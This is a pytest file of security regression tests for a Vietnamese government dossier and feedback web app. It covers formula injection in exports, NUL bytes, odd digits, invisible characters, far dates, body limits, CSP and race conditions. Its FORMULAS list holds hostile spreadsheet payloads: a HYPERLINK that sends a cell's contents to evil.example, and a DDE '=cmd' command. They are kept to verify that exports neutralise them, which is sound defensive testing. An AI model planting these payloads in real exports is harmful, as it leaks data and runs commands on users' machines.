"""Attack classes of issue 12 that come through input and faults: formula injection in exports, hostile text
(NUL bytes, non-ASCII digits, invisible and bidirectional controls, far-future dates, oversized bodies), notes
at their maximum length, stale rows after a lock, and a Redis outage during writes.

Each test reproduces what the attack on a production-like instance did, through the real parts (test client,
database, files read back with openpyxl and csv)."""
import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from tests.dossiers.conftest import *  # noqa: F403 (agency, clerk, specialist, leader, procedure, receive, build_dossier)
from tests.dossiers.conftest import MONDAY_0900

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "\t=1+1"]


# --- formula injection in the Mẫu 07 exports (OWASP CSV injection) ------------------------------------------


def _register_export(client, fmt):
    day = f"{MONDAY_0900:%d/%m/%Y}"
    return client.get(reverse("dashboards:register_export", kwargs={"fmt": fmt}), {"date_from": day, "date_to": day})


@pytest.mark.django_db
def test_no_applicant_text_becomes_a_formula_in_the_register_xlsx(client, clerk, receive):
    for index, name in enumerate(FORMULAS):
        receive(name=f"{name} {index}" if not name.startswith("\t") else name, address=FORMULAS[-1 - index])
    client.force_login(clerk.user)
    response = _register_export(client, "xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert not [cell.coordinate for cell in texts if cell.data_type == "f"]
    assert not [cell.value for cell in texts if cell.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    names = {cell.value for cell in texts}
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\") 0" in names


@pytest.mark.django_db
def test_no_csv_cell_of_the_register_starts_a_formula(client, clerk, receive):
    for name in FORMULAS:
        receive(name=name.strip() + " An", address=name)
    client.force_login(clerk.user)
    body = b"".join(_register_export(client, "csv").streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=cmd|' /C calc'!A0 An" in cells
    assert "'@SUM(A1:A2) An" in cells


def test_no_cell_of_the_catalogue_export_starts_a_formula(procedure):
    from procedures.models import Procedure
    from procedures.resources import ProcedureResource

    Procedure.objects.filter(pk=procedure.pk).update(name=FORMULAS[0], legal_basis="@SUM(A1:A2)")
    dataset = ProcedureResource().export(queryset=Procedure.objects.filter(pk=procedure.pk))
    cells = [cell for row in dataset for cell in row if isinstance(cell, str)]
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULAS[0] in cells and "'@SUM(A1:A2)" in cells


# --- notes at their maximum length (history reasons are 100 characters) -------------------------------------


def _longest(form_class, field: str) -> str:
    """A note as long as the form lets through, in Vietnamese (multi-byte) letters."""
    length = form_class.base_fields[field].max_length
    return ("Ghi chú dài có dấu tiếng Việt. " * (length // 30 + 1))[:length]


@pytest.mark.postgres
@pytest.mark.django_db
def test_feedback_triage_and_reject_with_the_longest_note(client, agency, leader):
    from satisfaction import forms as feedback_forms
    from satisfaction import services as feedback_services
    from satisfaction.models import Feedback

    def report():
        return feedback_services.create_feedback(data=feedback_services.FeedbackInput(
            subject="procedure", content=_longest(feedback_forms.FeedbackForm, "content"), agency_id=agency.pk,
            reporter_name=_longest(feedback_forms.FeedbackForm, "reporter_name"), is_anonymous=False))

    first, second = report(), report()
    client.force_login(leader.user)
    note = _longest(feedback_forms.NoteForm, "note")
    assert len(note) > 92  # the attack: 93 characters overflowed "triage: <note>"
    response = client.post(f"/phan-anh/quan-ly/{first.pk}/triage/", {"note": note})
    assert response.status_code == 302
    first.refresh_from_db()
    assert first.state == Feedback.State.TRIAGED and first.internal_note == note  # the full note is kept
    reason = Feedback.history.filter(id=first.pk).latest("history_date").history_change_reason
    assert reason.startswith("triage: Ghi chú") and len(reason) == 100 and reason.endswith("…")
    reject = _longest(feedback_forms.RejectForm, "reason")
    assert client.post(f"/phan-anh/quan-ly/{second.pk}/reject/", {"reason": reject}).status_code == 302
    second.refresh_from_db()
    assert second.state == Feedback.State.REJECTED and second.public_answer == reject


@pytest.mark.postgres
@pytest.mark.django_db
def test_every_dossier_note_at_its_maximum_length(build_dossier, clerk, specialist, leader, procedure):
    from dossiers import forms as dossier_forms
    from dossiers import services
    from dossiers.models import Dossier, DossierEvent, State

    at = MONDAY_0900 + datetime.timedelta(hours=2)
    guidance = services.give_guidance(
        actor=clerk.user, procedure_id=procedure.pk, now=at,
        applicant_name=_longest(dossier_forms.ReceiveForm, "applicant_name"),
        missing=_longest(dossier_forms.ReceiveForm, "guidance_missing"))
    assert len(guidance.missing) == dossier_forms.ReceiveForm.base_fields["guidance_missing"].max_length

    dossier = build_dossier("in_progress")
    services.request_supplement(dossier_id=dossier.pk, actor=specialist.user, now=at, reply_by=at.date(),
                                missing=_longest(dossier_forms.SupplementForm, "missing"))
    services.fulfil_supplement(dossier_id=dossier.pk, actor=clerk.user, now=at,
                               note=_longest(dossier_forms.FulfilSupplementForm, "note"))
    services.await_payment(dossier_id=dossier.pk, actor=specialist.user, amount=1000, now=at,
                           description=_longest(dossier_forms.PaymentForm, "description"))
    services.confirm_payment(dossier_id=dossier.pk, actor=clerk.user, now=at,
                             receipt_number=_longest(dossier_forms.ConfirmPaymentForm, "receipt_number"))
    services.request_extension(dossier_id=dossier.pk, actor=specialist.user, now=at,
                               reason=_longest(dossier_forms.ExtensionForm, "reason"),
                               proposed_due_at=at + datetime.timedelta(days=30))
    services.assign(dossier_id=dossier.pk, actor=leader.user, assignee_id=specialist.pk, now=at,
                    note=_longest(dossier_forms.AssignForm, "note"))
    steps = list(procedure.steps.order_by("order"))
    services.forward(dossier_id=dossier.pk, actor=specialist.user, now=at,
                     note=_longest(dossier_forms.ForwardForm, "note"))
    services.send_back(dossier_id=dossier.pk, actor=leader.user, to_step_id=steps[1].pk, now=at,
                       reason=_longest(dossier_forms.SendBackForm, "reason"))
    services.stop(dossier_id=dossier.pk, actor=leader.user, now=at,
                  reason=_longest(dossier_forms.StopForm, "reason"),
                  legal_ground=_longest(dossier_forms.StopForm, "legal_ground"))
    assert Dossier.objects.get(pk=dossier.pk).state == State.STOPPED

    finished = build_dossier("in_progress_last")
    services.mark_processed(dossier_id=finished.pk, actor=clerk.user, now=at,
                            result_note=_longest(dossier_forms.ProcessedForm, "result_note"))
    services.register_result_document(
        dossier_id=finished.pk, actor=clerk.user, now=at, issued_on=at.date(),
        number=_longest(dossier_forms.ResultDocumentForm, "number"),
        signer=_longest(dossier_forms.ResultDocumentForm, "signer"),
        title=_longest(dossier_forms.ResultDocumentForm, "title"))
    services.return_result(dossier_id=finished.pk, actor=clerk.user, now=at,
                           note=_longest(dossier_forms.ReturnResultForm, "note"))
    withdrawn = build_dossier("received")
    services.withdraw(dossier_id=withdrawn.pk, actor=clerk.user, now=at,
                      reason=_longest(dossier_forms.WithdrawForm, "reason"))
    services.refuse_at_counter(actor=clerk.user, procedure_id=procedure.pk, now=at,
                               applicant=services.Applicant(
                                   name=_longest(dossier_forms.ReceiveForm, "applicant_name"), id_number="001203004567",
                                   phone="0912345678", address=_longest(dossier_forms.ReceiveForm, "applicant_address")),
                               reason=_longest(dossier_forms.ReceiveForm, "refuse_reason"))
    longest_notes = DossierEvent.objects.filter(dossier__in=[dossier, finished, withdrawn])
    assert max(len(event.public_note) + len(event.internal_note) for event in longest_notes) >= 2000


# --- stale related rows after the row lock (forward racing stop and mark-processed) ------------------------

HOLD_SECONDS = 1.0  # the first action keeps its lock this long, so the second surely waits on it


def _user(pk):
    from django.contrib.auth import get_user_model

    return get_user_model().objects.get(pk=pk)


def _race_behind_a_forward(dossier, holder, second_action):
    """`holder` forwards the dossier and keeps the row locked a moment; `second_action` starts meanwhile, waits
    on the lock and runs on what the forward committed. Returns (forward's result, second action's result)."""
    import time

    from django.db import transaction

    from dossiers import services
    from tests.concurrency import run_concurrently

    def forward_and_hold():
        with transaction.atomic():
            moved = services.forward(dossier_id=dossier.pk, actor=_user(holder.user_id), now=MONDAY_0900)
            time.sleep(HOLD_SECONDS)
        return moved

    def wait_then(action):
        time.sleep(HOLD_SECONDS / 4)
        return action()

    return run_concurrently(lambda job: job(), [forward_and_hold, lambda: wait_then(second_action)])


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_stop_waiting_behind_a_forward_records_the_new_step(build_dossier, specialist, leader, procedure):
    from dossiers import services
    from dossiers.models import Dossier, DossierEvent, State

    dossier = build_dossier("in_progress")  # at appraisal, held by `specialist`
    approval = procedure.steps.get(order=3)
    forwarded, stopped = _race_behind_a_forward(dossier, specialist, lambda: services.stop(
        dossier_id=dossier.pk, actor=_user(leader.user_id), reason="Có tranh chấp", legal_ground="Điều 18",
        now=MONDAY_0900))
    assert isinstance(forwarded, Dossier) and isinstance(stopped, Dossier), (forwarded, stopped)
    assert Dossier.objects.get(pk=dossier.pk).state == State.STOPPED
    event = DossierEvent.objects.get(dossier=dossier, kind=DossierEvent.Kind.STOPPED)
    assert event.step == approval  # was None: the stop was saved without its step


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_mark_processed_waiting_behind_a_forward_acts_on_the_new_step(build_dossier, clerk, specialist, leader):
    from dossiers import services
    from dossiers.models import Dossier, State

    dossier = build_dossier("in_progress")
    services.forward(dossier_id=dossier.pk, actor=specialist.user, assignee_id=leader.pk, now=MONDAY_0900)
    # The leader forwards approval → return while the counter clerk (who holds the return step) marks it processed.
    forwarded, processed = _race_behind_a_forward(dossier, leader, lambda: services.mark_processed(
        dossier_id=dossier.pk, actor=_user(clerk.user_id), result_note="Đã ký", now=MONDAY_0900))
    assert isinstance(forwarded, Dossier) and isinstance(processed, Dossier), (forwarded, processed)
    assert Dossier.objects.get(pk=dossier.pk).state == State.PROCESSED


# --- far-future (and far-past) dates in every date filter --------------------------------------------------

FAR_DATES = [("31/12/9999", "9999-12-31"), ("01/01/0001", "0001-01-01"), ("31/12/2100", "2100-12-31")]
DATE_FILTERS = [
    ("dossiers:worklist", {"received_from": "{d}", "received_to": "{d}"}),
    ("dashboards:leader", {"date_from": "01/01/2026", "date_to": "{d}"}),
    ("dashboards:leader", {"date_from": "{d}", "date_to": "{d}"}),
    ("dashboards:register", {"date_from": "{d}", "date_to": "{d}"}),
    ("dashboards:register_export", {"date_from": "{d}", "date_to": "{d}"}, {"fmt": "csv"}),
    ("forms:register", {"from": "{d}", "to": "{d}"}),
    ("satisfaction:statistics", {"start": "{iso}", "end": "{iso}"}),
    ("satisfaction:scorecard", {"start": "{iso}", "end": "{iso}"}),
]


@pytest.mark.django_db
@pytest.mark.parametrize("far", FAR_DATES, ids=[d for d, _iso in FAR_DATES])
@pytest.mark.parametrize("spec", DATE_FILTERS, ids=[f"{s[0]}-{'-'.join(s[1])}" for s in DATE_FILTERS])
def test_far_dates_in_filters_are_refused_not_a_500(client, leader, clerk, receive, far, spec):
    name, params, *kwargs = spec
    receive()
    day, iso = far
    url = reverse(name, kwargs=kwargs[0] if kwargs else None)
    client.force_login((clerk if name.startswith(("dossiers", "forms")) else leader).user)
    response = client.get(url, {key: value.format(d=day, iso=iso) for key, value in params.items()})
    assert response.status_code in (200, 400), response.status_code


@pytest.mark.django_db
def test_an_appointment_or_reply_date_far_ahead_is_a_form_error(client, build_dossier, specialist):
    dossier = build_dossier("in_progress")
    client.force_login(specialist.user)
    url = reverse("dossiers:act", kwargs={"pk": dossier.pk, "action": "request_supplement"})
    response = client.post(url, {"request_supplement-missing": "Tờ khai", "request_supplement-reply_by": "31/12/9999"})
    assert response.status_code == 400  # the page again, with the error beside the field
    assert "Nhập ngày từ 01/01/2000 đến 31/12/2099." in response.content.decode()
    url = reverse("dossiers:act", kwargs={"pk": dossier.pk, "action": "request_extension"})
    response = client.post(url, {"request_extension-reason": "Chờ", "request_extension-proposed_due_at": "31/12/9999"})
    assert response.status_code == 400
    assert "Nhập ngày từ 01/01/2000 đến 31/12/2099." in response.content.decode()


# --- public input: non-ASCII digits, NUL bytes, no code-existence oracle ------------------------------------


NON_ASCII_DIGITS = ["١٢٣٤", "۱۲۳۴", "१२३४", "𝟏𝟐𝟑𝟒", "12³4", "١٢٣"]


@pytest.mark.django_db
@pytest.mark.parametrize("digits", NON_ASCII_DIGITS)
def test_lookup_with_non_ascii_digits_reads_the_same_for_known_and_unknown_codes(client, receive, digits):
    known = receive().code
    unknown = known[:-4] + "9999"
    pages = [client.post("/tra-cuu/", {"code": code, "last_digits": digits}) for code in (known, unknown)]
    assert [page.status_code for page in pages] == [200, 200]
    bodies = [re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", page.content.decode().replace(code, "CODE"))
              for page, code in zip(pages, (known, unknown), strict=True)]
    assert bodies[0] == bodies[1]  # the same answer: nothing says whether the code exists
    # Other scripts' digits are refused; mathematical or superscript digits are NFKC-equal to ASCII ones.
    assert "Nhập đúng 4 chữ số." in bodies[0] or "Không tìm thấy hồ sơ khớp" in bodies[0]


@pytest.mark.django_db
def test_lookup_accepts_full_width_digits_as_the_same_digits(client, receive):
    dossier = receive(phone="0912345678")
    response = client.post("/tra-cuu/", {"code": dossier.code, "last_digits": "５６７８"})
    assert response.status_code == 302 and response["Location"] == f"/t/{dossier.tracking_token}/"


@pytest.mark.django_db
def test_the_lookup_selector_never_raises_on_odd_digits(receive):
    from dossiers import selectors

    code = receive().code
    for digits in NON_ASCII_DIGITS:
        assert selectors.tracking_token_for_lookup(code=code, last_digits=digits) is None


@pytest.mark.django_db
def test_reception_stores_full_width_digits_as_ascii_and_the_dossier_can_be_looked_up(client, clerk, procedure):
    from dossiers.models import Dossier
    from tests.dossiers.test_views_receive import URL, valid_post

    client.force_login(clerk.user)
    response = client.post(URL, valid_post(procedure, stage="confirm", applicant_id_number="００１２０３００４５６７",
                                           applicant_phone="０９１２ ３４５ ６７８"))
    assert response.status_code == 302, response.content.decode()[:500]
    dossier = Dossier.objects.get()
    assert (dossier.applicant_id_number, dossier.applicant_phone) == ("001203004567", "0912345678")
    client.logout()
    found = client.post("/tra-cuu/", {"code": dossier.code, "last_digits": "4567"})
    assert found.status_code == 302


@pytest.mark.django_db
def test_reception_refuses_other_scripts_digits(client, clerk, procedure):
    from dossiers.models import Dossier
    from tests.dossiers.test_views_receive import URL, valid_post

    client.force_login(clerk.user)
    response = client.post(URL, valid_post(procedure, stage="confirm", applicant_id_number="٠٠١٢٠٣٠٠٤٥٦٧"))
    assert response.status_code in (200, 400)
    assert "Số căn cước công dân phải gồm đúng 12 chữ số." in response.content.decode()
    assert not Dossier.objects.exists()


NUL_REQUESTS = [
    ("get", "/t/abc%00defghij/", {}),
    ("get", "/phan-anh/abc%00def/", {}),
    ("get", "/t/abc%00defghij/danh-gia/", {}),
    ("get", "/thu-tuc/", {"q": "khai\x00sinh"}),
    ("get", "/xac-thuc/", {"ma": "abc\x00defgh"}),
    ("get", "/phan-anh/", {"ho_so": "abc\x00defghij"}),
    ("post", "/tra-cuu/", {"code": "000.00.06.H56-260309-0001\x00", "last_digits": "1234"}),
    ("post", "/kiosk/", {"scan": "abc\x00defghij"}),
    ("post", "/phan-anh/", {"subject": "procedure", "kind": "other", "content": "Nội dung\x00"}),
    ("post", "/phan-anh/", {"subject\x00": "procedure"}),
    ("post", "/accounts/login/", {"username": "tiepnhan\x00", "password": "x"}),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("method", "path", "data"), NUL_REQUESTS)
def test_a_nul_byte_anywhere_is_a_400_or_404(client, agency, method, path, data):
    response = getattr(client, method)(path, data)
    assert response.status_code in (400, 404), (path, response.status_code)


@pytest.mark.django_db
def test_a_nul_byte_in_the_session_cookie_is_a_400(client):
    client.cookies["sessionid"] = "abcdefgh\x00ijklmnop"
    assert client.get("/ho-so/").status_code == 400


@pytest.mark.django_db
def test_a_placard_link_with_odd_digits_is_not_a_500(client, clerk):
    for value in ("²", "١٢", "99999999999999999999999"):
        assert client.get("/phan-anh/", {"can_bo": value}).status_code == 200


# --- hardening: body limits, invisible characters, CSP and no-store on staff pages ---------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/tra-cuu/", "/kiosk/", "/phan-anh/", "/accounts/login/", "/t/abcdefghijkl/danh-gia/"])
def test_public_posts_refuse_a_large_body_before_reading_it(client, path):
    from django.conf import settings

    from portal.middleware import body_limit

    assert body_limit(path) <= 64 * 1024 < settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    response = client.post(path, {"content": "x" * (body_limit(path) + 1)})
    assert response.status_code == 413


@pytest.mark.django_db
def test_feedback_of_the_longest_allowed_content_fits_its_body_limit(client, agency):
    from satisfaction.forms import FeedbackForm
    from satisfaction.models import Feedback

    content = ("Ý kiến phản ánh dài có dấu. " * 300)[: FeedbackForm.base_fields["content"].max_length]
    response = client.post("/phan-anh/", {"subject": "procedure", "kind": "other", "agency": agency.pk,
                                          "content": content})
    assert response.status_code == 302
    assert Feedback.objects.get().content == content.strip()


BIDI_AND_INVISIBLE = "\u202e\u2066\u200b\u200d\ufeff\u00ad\u0007"


@pytest.mark.django_db
def test_names_and_notes_lose_invisible_and_bidirectional_controls(client, clerk, specialist, procedure, build_dossier):
    from dossiers.models import Dossier, DossierEvent
    from tests.dossiers.test_views_receive import URL, valid_post

    client.force_login(clerk.user)
    name = "Nguyễn\u202e Văn\u200b An\u2066"
    response = client.post(URL, valid_post(procedure, stage="confirm", applicant_name=name,
                                           applicant_address="12 Hàng\u202e Bạc\ufeff"))
    assert response.status_code == 302
    received = Dossier.objects.get()
    assert (received.applicant_name, received.applicant_address) == ("Nguyễn Văn An", "12 Hàng Bạc")

    dossier = build_dossier("in_progress")
    client.force_login(specialist.user)
    url = reverse("dossiers:act", kwargs={"pk": dossier.pk, "action": "request_supplement"})
    reply_by = datetime.date.today() + datetime.timedelta(days=10)
    response = client.post(url, {"request_supplement-missing": f"Tờ khai{BIDI_AND_INVISIBLE}\nbản sao",
                                 "request_supplement-reply_by": f"{reply_by:%d/%m/%Y}"})
    assert response.status_code == 302
    event = DossierEvent.objects.get(dossier=dossier, kind=DossierEvent.Kind.SUPPLEMENT_REQUESTED)
    assert event.public_note == "Tờ khai\nbản sao"


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/", "/thu-tuc/", "/tra-cuu/", "/kiosk/", "/phan-anh/", "/thong-ke/",
                                  "/accounts/login/", "/khong-co-trang-nay/"])
def test_every_page_carries_a_strict_content_security_policy(client, path):
    policy = client.get(path)["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    assert directives["default-src"] == "'self'"
    assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'"
    assert directives["frame-ancestors"] == "'none'" and directives["object-src"] == "'none'"
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy


def test_no_template_has_inline_script_or_style():
    from pathlib import Path

    from django.conf import settings

    offenders = []
    for template in Path(settings.BASE_DIR, "templates").rglob("*.html"):
        if "forms" in template.parts:  # the legal forms are rendered to PDF by WeasyPrint, never served as HTML
            continue
        text = template.read_text()
        if re.search(r"<script(?![^>]*\bsrc=)(?![^>]*application/(ld\+)?json)", text) or re.search(
                r"\sstyle=|<style", text):
            offenders.append(template.name)
    assert offenders == []


@pytest.mark.django_db
def test_staff_pages_and_exports_are_never_stored(client, clerk, leader, receive, build_dossier):
    dossier = receive()
    client.force_login(clerk.user)
    day = f"{MONDAY_0900:%d/%m/%Y}"
    for url in [reverse("dossiers:worklist"), reverse("dossiers:detail", kwargs={"pk": dossier.pk}),
                reverse("dossiers:receive"), reverse("dashboards:register") + f"?date_from={day}&date_to={day}",
                reverse("dashboards:register_export", kwargs={"fmt": "xlsx"}),
                reverse("dashboards:register_export", kwargs={"fmt": "csv"}),
                reverse("forms:receipt", kwargs={"pk": dossier.pk})]:
        response = client.get(url)
        assert response.status_code == 200, url
        cache_control = {part.strip() for part in response["Cache-Control"].split(",")}
        assert {"private", "no-store"} <= cache_control, (url, cache_control)
    client.force_login(leader.user)
    for url in [reverse("dashboards:leader"), "/phan-anh/quan-ly/", "/phan-anh/quan-ly/thong-ke/"]:
        cache_control = {part.strip() for part in client.get(url)["Cache-Control"].split(",")}
        assert {"private", "no-store"} <= cache_control, (url, cache_control)


# --- catalogue import: the admin's own export with empty optional cells, database errors as messages ---------


def _catalogue_xlsx(blank_columns=(), edit=None) -> bytes:
    from import_export.formats import base_formats

    from procedures.resources import ProcedureResource

    book = openpyxl.load_workbook(io.BytesIO(base_formats.XLSX().export_data(ProcedureResource().export())))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    for row in range(2, sheet.max_row + 1):
        for column in blank_columns:
            sheet.cell(row=row, column=header.index(column) + 1).value = None
        if edit:
            edit(sheet, header, row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _import(data: bytes, dry_run=False):
    from import_export.formats import base_formats

    from procedures.resources import ProcedureResource

    return ProcedureResource().import_data(base_formats.XLSX().create_dataset(data), dry_run=dry_run)


@pytest.mark.django_db
def test_the_admins_own_export_with_empty_optional_cells_imports(procedure):
    from procedures.models import Procedure

    procedure.fee_note, procedure.legal_basis, procedure.result_document = "Miễn phí", "Luật Hộ tịch", "Giấy"
    procedure.save()
    result = _import(_catalogue_xlsx(blank_columns=("fee_note", "legal_basis", "result_document")))
    assert not result.has_errors() and not result.has_validation_errors()
    procedure = Procedure.objects.get(pk=procedure.pk)
    assert (procedure.fee_note, procedure.legal_basis, procedure.result_document) == ("", "", "")


@pytest.mark.postgres
@pytest.mark.django_db
def test_a_row_the_database_refuses_is_a_message_and_nothing_is_written(procedure):
    from import_export.formats import base_formats

    from procedures.models import Procedure
    from procedures.resources import ProcedureResource

    before = Procedure.objects.get(pk=procedure.pk).name
    # PostgreSQL refuses NUL in text, and nothing before the database looks for it in an uploaded file.
    text = base_formats.CSV().export_data(ProcedureResource().export()).replace(before, "Tên có ký tự \x00 lạ")
    result = ProcedureResource().import_data(base_formats.CSV().create_dataset(text), dry_run=False)
    assert not result.has_errors()  # no raw database error on any row
    messages = [str(message) for row in result.invalid_rows for messages in row.error_dict.values()
                for message in messages]
    assert messages and all("Không lưu được thủ tục" in message for message in messages), messages
    assert Procedure.objects.get(pk=procedure.pk).name == before


@pytest.mark.django_db
def test_the_step_machine_drawing_needs_no_inline_style(procedure):
    from dossiers.lifecycle_diagram import lifecycle_svg

    svg = str(lifecycle_svg(procedure))
    assert "<style" not in svg and " style=" not in svg
    assert all(step.name in svg for step in procedure.steps.all())


@pytest.mark.postgres
@pytest.mark.django_db
def test_answers_and_ratings_with_the_longest_text(agency, leader, specialist, clerk, build_dossier):
    from satisfaction import forms as feedback_forms
    from satisfaction import services as feedback_services
    from satisfaction.models import Feedback, Rating

    report = feedback_services.create_feedback(data=feedback_services.FeedbackInput(
        subject="procedure", content="Niêm yết không rõ", agency_id=agency.pk))
    feedback_services.triage(feedback_id=report.pk, actor=leader.user,
                             note=_longest(feedback_forms.NoteForm, "note"))
    feedback_services.assign(feedback_id=report.pk, actor=leader.user, assignee_id=specialist.pk)
    answer = _longest(feedback_forms.AnswerForm, "public_answer")
    feedback_services.answer(feedback_id=report.pk, actor=specialist.user, public_answer=answer, upheld=True)
    assert Feedback.objects.get(pk=report.pk).public_answer == answer

    dossier = build_dossier("returned")
    comment = _longest(feedback_forms.DossierRatingForm, "comment")
    rating = feedback_services.rate_dossier(token=dossier.tracking_token, answers=feedback_services.Answers(
        overall="dissatisfied", attitude="dissatisfied", timeliness="dissatisfied", guidance="dissatisfied",
        extra_visits=0, comment=comment))
    feedback_services.handle_rating(rating_id=rating.pk, actor=leader.user,
                                    note=_longest(feedback_forms.HandleRatingForm, "note"))
    placard = feedback_services.rate_official(
        official_id=clerk.pk, device_id="thiet-bi-1", answers=feedback_services.Answers(
            overall="satisfied", attitude="satisfied", comment=_longest(feedback_forms.OfficialRatingForm, "comment")))
    assert Rating.objects.get(pk=rating.pk).comment == comment and placard.pk
